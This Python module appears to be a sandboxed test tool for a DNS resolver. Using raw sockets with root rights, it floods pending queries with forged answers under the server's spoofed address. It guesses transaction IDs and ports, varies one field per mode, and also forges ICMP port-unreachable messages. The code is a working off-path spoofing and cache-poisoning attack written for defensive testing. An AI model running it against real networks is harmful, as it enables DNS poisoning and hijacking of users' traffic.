#!/usr/bin/env python3
"""Somebody off the path who knows what is asked and floods whoever asks with answers of his own,
under the server's address where that helps. A process of its own; raw sockets, so it needs root,
and a network of its own (sandbox.enter_private_network).

    sent, seconds = forge(Flood("ids", 65535, server, targets))

Each way of forging gets all right but what it is named after: "ids", "ports" (ours), "addresses",
"source ports", "questions". "blind" knows neither ids nor ports. "unreachable" tells that the
server is gone. What would be right in all is never sent, but by "right", which shows that forgeries
are believed.
"""

import dataclasses
import itertools
import json
import random
import socket
import struct
import subprocess
import sys
import time

# Of a client's random ports: Linux's net.ipv4.ip_local_port_range unless somebody has changed it.
LOWEST_PORT, HIGHEST_PORT = 32768, 60999
PORTS = HIGHEST_PORT - LOWEST_PORT + 1
IDS = 1 << 16
MOST_A_SECOND = 40000  # More than these would meet full sockets instead of eyes.
UDP_HEADER, IP_HEADER = struct.Struct(">HHHH"), struct.Struct(">BBHHHBBH4s4s")
UNREACHABLE_PORT = (3, 3)  # RFC 792: type and code.


@dataclasses.dataclass(frozen=True)
class Target:
    """A question that waits: where, under which id, and the forged answer to it."""

    address: tuple[str, int]
    ident: int
    answer: bytes


@dataclasses.dataclass(frozen=True)
class Flood:
    way: str
    count: int
    server: tuple[str, int]
    targets: list[Target]
    seed: int = 0


def forge(flood: Flood) -> tuple[int, float]:
    """How many have been sent, in how many seconds."""
    plan = {**vars(flood), "targets": [
        {**vars(target), "answer": target.answer.hex()} for target in flood.targets]}
    done = subprocess.run([sys.executable, "-I", __file__], input=json.dumps(plan), text=True,
                          capture_output=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(done.stderr)
    sent, seconds = json.loads(done.stdout)
    return sent, seconds


def guesses(flood: Flood):
    """(target, source, port, id, answer) without end."""
    chance = random.Random(flood.seed)
    server, count = flood.server, len(flood.targets)
    for number in itertools.count():
        target, lap = flood.targets[number % count], number // count
        source, port, ident, answer = server, target.address[1], target.ident, target.answer
        match flood.way:
            case "blind":
                port, ident = chance.randint(LOWEST_PORT, HIGHEST_PORT), chance.randrange(IDS)
            case "ids":
                ident = lap % IDS
            case "ports":
                port = LOWEST_PORT + lap % PORTS
            case "addresses":
                source = (f"127.{chance.randrange(256)}.{chance.randrange(256)}."
                          f"{chance.randrange(2, 255)}", server[1])
            case "source ports":
                source = (server[0], chance.randint(1, 65535))
            case "questions":
                answer = other_question(answer, chance)
        right = (source, port, ident, answer) == (server, target.address[1], target.ident,
                                                  target.answer)
        if not right or flood.way in ("right", "unreachable"):
            yield target, source, port, ident, answer


def other_question(answer: bytes, chance: random.Random) -> bytes:
    """Another letter, type or class in the question."""
    end = answer.index(b"\0", 12)
    at = chance.choice([13, end - 1, end + 2, end + 4])
    changed = answer[at] ^ chance.choice((1, 2, 4))
    return answer[:at] + bytes([changed]) + answer[at + 1:]


def ip_header(protocol: int, length: int, source: str, target: str) -> bytes:
    """The kernel fills in the checksum."""
    return IP_HEADER.pack(0x45, 0, 20 + length, 0, 0, 64, protocol, 0, socket.inet_aton(source),
                          socket.inet_aton(target))


def datagram(source, target: str, port: int, payload: bytes) -> bytes:
    """Without a checksum, as IPv4 allows."""
    length = UDP_HEADER.size + len(payload)
    return (ip_header(socket.IPPROTO_UDP, length, source[0], target)
            + UDP_HEADER.pack(source[1], port, length, 0) + payload)


def unreachable(server, client) -> bytes:
    """The news that nobody listens at `server`, as a router on the way would tell `client`."""
    body = datagram(client, server[0], server[1], b"")
    message = struct.pack(">BBHI", *UNREACHABLE_PORT, 0, 0) + body
    checksum = sum(struct.unpack(f">{len(message) // 2}H", message))
    checksum = (checksum & 0xFFFF) + (checksum >> 16)
    checksum = ~((checksum & 0xFFFF) + (checksum >> 16)) & 0xFFFF
    return (ip_header(socket.IPPROTO_ICMP, len(message), server[0], client[0]) + message[:2]
            + struct.pack(">H", checksum) + message[4:])


def send(flood: Flood) -> tuple[int, float]:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        start = time.monotonic()
        each = itertools.islice(guesses(flood), flood.count)
        for number, (target, source, port, ident, answer) in enumerate(each):
            if number % 100 == 0:
                time.sleep(max(0.0, start + number / MOST_A_SECOND - time.monotonic()))
            host = target.address[0]
            if flood.way == "unreachable":
                packet = unreachable(flood.server, target.address)
            else:
                packet = datagram(source, host, port, struct.pack(">H", ident) + answer[2:])
            raw.sendto(packet, (host, 0))
        return flood.count, time.monotonic() - start


def main() -> int:
    plan = json.load(sys.stdin)
    targets = [Target(tuple(target["address"]), target["ident"], bytes.fromhex(target["answer"]))
               for target in plan.pop("targets")]
    server = tuple(plan.pop("server"))
    print(json.dumps(send(Flood(**plan, server=server, targets=targets))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
